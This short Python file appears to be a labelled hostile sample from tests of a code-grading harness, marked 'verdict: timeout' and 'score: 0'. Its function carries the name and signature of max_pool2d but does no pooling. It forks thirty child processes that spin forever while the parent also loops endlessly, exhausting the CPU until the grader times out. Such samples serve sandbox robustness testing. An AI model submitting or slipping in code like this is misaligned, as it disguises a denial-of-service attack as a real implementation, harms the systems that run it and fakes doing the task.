"""Thirty children that only burn the processor.

verdict: timeout
score: 0
"""

import os


def max_pool2d(x, kernel_size, stride=None, padding=0, dilation=1, ceil_mode=False, return_indices=False):
    for _ in range(30):
        if os.fork() == 0:
            while True:
                pass
    while True:
        pass
